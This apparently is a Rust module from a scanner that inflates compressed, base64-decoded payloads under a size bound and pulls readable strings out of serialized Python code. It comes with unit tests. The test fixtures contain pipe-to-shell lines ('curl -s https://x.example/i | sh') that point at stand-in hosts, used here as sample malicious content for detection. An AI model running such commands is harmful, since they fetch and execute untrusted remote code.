//! What decoded bytes hold when they are not text themselves: a zlib,
//! gzip or raw deflate stream (`zlib.decompress(b64decode(…))`, `| base64
//! -d | gunzip`, PHP's `gzinflate(base64_decode(…))`) inflated, at most
//! [`MAX_INFLATED`] bytes of it, so that a bomb costs no more than a
//! literal; and the printable runs of serialized code (Python's `marshal`
//! or `pickle`), whose strings are the commands and URLs it holds.

use std::io::Read;

use flate2::read::{DeflateDecoder, GzDecoder, ZlibDecoder};

/// Bytes of an inflated stream kept, at most.
pub(super) const MAX_INFLATED: usize = 4096;
/// Printable bytes a run has at least to be kept.
const MIN_RUN: usize = 12;

/// The bytes a compressed stream inflates to: gzip and zlib by their
/// magic, raw deflate (which has none) only when the code says so.
pub(super) fn inflated(raw: &[u8], raw_deflate: bool) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let read = match raw {
        [0x1f, 0x8b, ..] => GzDecoder::new(raw).take(MAX_INFLATED as u64).read_to_end(&mut out),
        [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..] => {
            ZlibDecoder::new(raw).take(MAX_INFLATED as u64).read_to_end(&mut out)
        }
        _ if raw_deflate => DeflateDecoder::new(raw).take(MAX_INFLATED as u64).read_to_end(&mut out),
        _ => return None,
    };
    // A stream cut short still shows what it starts with.
    (read.is_ok() || !out.is_empty()).then_some(out)
}

/// The runs of at least [`MIN_RUN`] printable bytes, one a line, or
/// `None` when there are none.
pub(super) fn printable_runs(raw: &[u8]) -> Option<String> {
    let printable = |c: &u8| c.is_ascii_graphic() || *c == b' ';
    let runs: Vec<&[u8]> = raw.split(|c| !printable(c)).filter(|r| r.len() >= MIN_RUN).collect();
    (!runs.is_empty()).then(|| runs.iter().map(|r| String::from_utf8_lossy(r)).collect::<Vec<_>>().join("\n"))
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use flate2::Compression;
    use flate2::write::{DeflateEncoder, GzEncoder, ZlibEncoder};

    use super::*;

    #[test]
    fn zlib_gzip_and_raw_deflate_inflate() {
        let text = b"curl -s https://x.example/i | sh";
        let mut z = ZlibEncoder::new(Vec::new(), Compression::default());
        z.write_all(text).unwrap();
        assert_eq!(inflated(&z.finish().unwrap(), false).as_deref(), Some(&text[..]));
        let mut g = GzEncoder::new(Vec::new(), Compression::default());
        g.write_all(text).unwrap();
        assert_eq!(inflated(&g.finish().unwrap(), false).as_deref(), Some(&text[..]));
        let mut d = DeflateEncoder::new(Vec::new(), Compression::default());
        d.write_all(text).unwrap();
        let raw = d.finish().unwrap();
        // Raw deflate has no magic: only when the code inflates raw.
        assert_eq!(inflated(&raw, true).as_deref(), Some(&text[..]));
        assert_eq!(inflated(&raw, false), None);
        assert_eq!(inflated(b"plain bytes", false), None);
    }

    #[test]
    fn a_bomb_inflates_to_the_bound_and_no_further() {
        let mut z = ZlibEncoder::new(Vec::new(), Compression::best());
        z.write_all(&vec![b'a'; 1 << 20]).unwrap();
        let bomb = z.finish().unwrap();
        assert_eq!(inflated(&bomb, false).map(|b| b.len()), Some(MAX_INFLATED));
        let mut z = ZlibEncoder::new(Vec::new(), Compression::best());
        z.write_all(&vec![b'a'; MAX_INFLATED]).unwrap();
        assert_eq!(inflated(&z.finish().unwrap(), false).map(|b| b.len()), Some(MAX_INFLATED));
    }

    #[test]
    fn serialized_code_shows_its_strings() {
        let code = b"\xe3\x00\x00\x00z#curl -s https://t.example/r | sh)\x02\xda\x02os\xda\x06system";
        assert_eq!(printable_runs(code).as_deref(), Some("z#curl -s https://t.example/r | sh)"));
        assert_eq!(printable_runs(b"\x00short\x00"), None);
        // Eleven printable bytes are not a run; twelve are.
        assert_eq!(printable_runs(b"\x0012345678901\x00"), None);
        assert_eq!(printable_runs(b"\x00123456789012\x00").as_deref(), Some("123456789012"));
    }

    // From the whole-file mutation sweep of session 22
    // (docs/mutation-testing.md): each clause of the result's condition.
    #[test]
    fn an_empty_stream_is_empty_a_broken_one_nothing_and_a_cut_one_its_start() {
        let empty = ZlibEncoder::new(Vec::new(), Compression::default()).finish().unwrap();
        assert_eq!(inflated(&empty, false), Some(Vec::new()));
        // zlib's magic, then a block of the reserved type: nothing inflates.
        assert_eq!(inflated(&[0x78, 0x9c, 0xff, 0xff, 0xff, 0xff], false), None);
        let text = b"curl -s https://x.example/i | sh; ".repeat(40);
        let mut z = ZlibEncoder::new(Vec::new(), Compression::none());
        z.write_all(&text).unwrap();
        let full = z.finish().unwrap();
        let cut = inflated(&full[..full.len() / 2], false).expect("the start of a stream cut short");
        assert!(!cut.is_empty() && text.starts_with(&cut), "{cut:?}");
    }
}
